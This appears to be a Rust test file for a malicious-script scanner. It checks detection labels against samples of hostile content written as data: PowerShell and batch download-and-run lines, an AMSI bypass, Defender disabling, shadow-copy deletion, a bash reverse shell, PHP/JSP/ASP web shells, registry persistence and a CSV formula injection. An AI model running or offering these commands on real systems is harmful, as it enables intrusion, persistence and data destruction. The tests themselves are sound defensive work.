use crate::FileType;
use crate::walk::testing::{ids, inspected_as, told};

/// What is found in a script of a language, with one blank between the ids.
fn found(own: FileType, text: &str) -> String {
    let inspection = inspected_as("a", text.as_bytes(), &[own], &[]);
    let mut ids = ids(&inspection);
    ids.sort_unstable();
    ids.join(" ")
}

#[test]
fn scripts_of_windows_are_told_by_what_they_do() {
    let cases = [
        (
            FileType::PowerShell,
            "IEX (New-Object Net.WebClient).DownloadString('http://example.vn/a')",
            "script-downloads-and-runs",
        ),
        (
            FileType::PowerShell,
            "I`EX (N`ew-Object Net.WebClient).('Down'+'load'+'String')('http://example.vn/a')",
            "script-downloads-and-runs",
        ),
        (FileType::PowerShell, "Get-ChildItem | Export-Csv a.csv", ""),
        (
            FileType::PowerShell,
            "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')",
            "script-bypasses-scan",
        ),
        (FileType::PowerShell, "Set-MpPreference -DisableRealtimeMonitoring $true", "script-disables-defence"),
        (FileType::Batch, "v^ssadmin  delete shadows /all /quiet", "script-deletes-backups"),
        (
            FileType::Batch,
            "certutil -urlcache -f http://example.vn/a.exe a.exe\r\nstart \"\" a.exe",
            "script-downloads-and-runs",
        ),
        (FileType::Batch, "@echo off\r\ncopy a b\r\npause", ""),
        (FileType::Batch, "schtasks /create /tn a /tr b", "script-persists"),
        (FileType::Batch, "wmic process call create calc", "script-wmi-process"),
        (FileType::Batch, "mshta http://example.vn/a.hta", "script-misuses-system-program"),
        (
            FileType::Batch,
            "powershell -w hidden -ep bypass -enc SQBFAFgA",
            "script-bypasses-policy script-encoded-command script-hides-window",
        ),
        (FileType::VbScript, "Set a = CreateObject(\"WScr\" & \"ipt.Shell\")\na.Run \"calc\"", "script-runs-program"),
        (
            FileType::VbScript,
            "Set a = CreateObject(\"MSXML2.XMLHTTP\")\nSet b = CreateObject(\"ADODB.Stream\")\nb.SaveToFile \"a\"",
            "script-downloads-and-runs",
        ),
        (FileType::VbScript, "MsgBox \"Xin chào\"", ""),
        (FileType::JavaScript, "var a = new ActiveXObject('WScript.Shell'); a.Run('calc');", "script-runs-program"),
        (FileType::JavaScript, "document.getElementById('a').innerHTML = 'b'; re.exec(c)", ""),
        (
            FileType::AutoIt,
            "InetGet('http://example.vn', 'a.exe')\nRun('a.exe')",
            "script-downloads-and-runs script-runs-program",
        ),
        (FileType::Batch, "net user a b /add\r\nnet localgroup administrators a /add", "script-changes-accounts"),
    ];
    for (own, text, expected) in cases {
        assert_eq!(found(own, text), expected, "{text}");
    }
}

#[test]
fn scripts_of_unix_are_told_by_what_they_do() {
    let cases = [
        (FileType::Shell, "curl -s http://example.vn/a | bash", "script-fetches-into-shell"),
        (FileType::Shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "script-opens-remote-shell"),
        (FileType::Shell, "echo QQ== | base64 -d | sh", "script-decodes-and-runs"),
        (FileType::Shell, "for a in *; do echo $a; done", ""),
        (FileType::Shell, &format!("base64 -d < a > b\n{}\necho a | sh", "echo a\n".repeat(60)), ""),
        (FileType::Shell, "trace_func -e exec", ""),
        (FileType::Python, "exec(base64.b64decode('QQ=='))", "script-decodes-and-runs"),
        (FileType::Python, "import os\nprint(os.getcwd())", ""),
    ];
    for (own, text, expected) in cases {
        assert_eq!(found(own, text), expected, "{text}");
    }
}

#[test]
fn pages_of_servers_that_run_requests_are_blocked() {
    let cases = [
        (FileType::Php, "<?php @eval($_POST['a']); ?>", "web-shell"),
        (FileType::Php, "<?php system( $_GET[\"a\"] );", "web-shell"),
        (FileType::Php, "<?php eval(gzinflate(base64_decode('a')));", "script-decodes-and-runs"),
        (FileType::Php, "<?php echo htmlspecialchars($_GET['a']);", ""),
        (FileType::Php, "<?php mysqli_exec($_GET['a']);", ""),
        (FileType::Jsp, "<% Runtime.getRuntime().exec(request.getParameter(\"a\")); %>", "web-shell"),
        (FileType::Asp, "<%eval request(\"a\")%>", "web-shell"),
        (FileType::Asp, "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"a\"],\"unsafe\");%>", "web-shell"),
        (FileType::Asp, "<% Response.Write(Request(\"a\")) %>", ""),
    ];
    for (own, text, expected) in cases {
        assert_eq!(found(own, text), expected, "{text}");
    }
}

#[test]
fn settings_and_tables_that_run_something_are_blocked() {
    let run = "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"C:\\\\a.exe\"";
    let cases = [
        (FileType::Reg, format!("Windows Registry Editor Version 5.00\r\n\r\n{run}"), "registry-starts-program"),
        (FileType::Reg, "[HKEY_CURRENT_USER\\Software\\a]\r\n\"a\"=dword:1".to_owned(), ""),
        (
            FileType::Reg,
            "[HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender]\n\"DisableAntiSpyware\"=dword:1".to_owned(),
            "script-disables-defence",
        ),
        (FileType::Inf, "[RunPreSetupCommandsSection]\r\ncmd /c calc".to_owned(), "settings-run-command"),
        (FileType::Inf, "[autorun]\r\nopen=a.exe\r\nicon=a.ico".to_owned(), "settings-run-command"),
        (FileType::Inf, "[Version]\r\nSignature=\"$Windows NT$\"".to_owned(), ""),
        (FileType::Csv, "a,b\n1,=cmd|'/c calc'!A0\n".to_owned(), "table-command"),
        (FileType::Csv, "a|b,c\n=1+2,-3|4\n".to_owned(), ""),
    ];
    for (own, text, expected) in cases {
        assert_eq!(found(own, &text), expected, "{text}");
    }
}

#[test]
fn findings_name_their_lines() {
    let inspection =
        inspected_as("a.bat", b"@echo off\r\nrem a\r\nvssadmin delete shadows /all", &[FileType::Batch], &[]);
    expect_test::expect![[r#"
        a.bat [batch] 46
        Blocked script-deletes-backups @0 Line(3): vssadmin delete shadows /all
    "#]]
    .assert_eq(&told(&inspection));
}

#[test]
fn any_text_is_a_script() {
    bolero::check!().with_type::<String>().for_each(|text| {
        let scripts = [FileType::Batch, FileType::VbScript, FileType::Php, FileType::Shell, FileType::AutoIt];
        let others = [FileType::Jsp, FileType::Reg, FileType::Inf, FileType::Csv];
        for types in [scripts.as_slice(), &others] {
            let _ = inspected_as("a", text.as_bytes(), types, &[]);
        }
    });
}
